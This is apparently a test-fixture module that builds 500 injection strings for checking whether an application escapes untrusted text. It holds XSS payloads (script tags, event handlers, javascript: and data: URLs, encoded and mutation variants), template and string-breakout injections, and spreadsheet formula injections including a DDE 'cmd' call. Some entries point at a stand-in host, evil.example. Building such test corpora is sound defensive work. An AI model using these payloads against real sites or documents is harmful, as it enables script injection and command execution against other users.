/** What runs, where a text is taken for markup, a script, an address or a style; each calls `pwned`. */
const markup = [
  '<script>pwned()</script>',
  '</script><script>pwned()</script>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<img src=x onerror=pwned()>',
  '<img/src=x/onerror=pwned()>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<body onload=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="javascript:parent.pwned()"></iframe>',
  '<details open ontoggle=pwned()>',
  '<input autofocus onfocus=pwned()>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<!--><img src=x onerror=pwned()>-->',
  '<![CDATA[><img src=x onerror=pwned()>]]>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action=https://evil.example><button>x</button></form>',
  '<a href="javascript:pwned()">x</a>',
  '<object data="javascript:pwned()">',
  '<template><script>pwned()</script></template>',
  'javascript:pwned()',
  'jAvAsCrIpT:pwned()//',
  'data:text/html,<script>pwned()</script>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;script&#62;pwned()&#60;/script&#62;',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '＜script＞pwned()＜/script＞',
  '{{constructor.constructor("pwned()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is tried.
  '${pwned()}',
  "');pwned();//",
  '";pwned();//',
  '`;pwned();//',
  '*/pwned()/*',
  'x:expression(pwned())',
  '\u0000<script>pwned()</script>',
];

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=cmd|x!A1',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  ' =1+1',
];

/** Ways out of where a text stands. */
const waysOut = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</bdi>',
  '</title>',
  '</style>',
  '</textarea>',
  '--></svg>',
  '\n',
  '\u202e',
];

/** 500 texts that would run, or be reckoned, if they were anything but text. */
export const payloads: readonly string[] = waysOut
  .flatMap((out) => [...markup, ...formulas].map((text) => (formulas.includes(text) ? text + out : out + text)))
  .slice(0, 500);
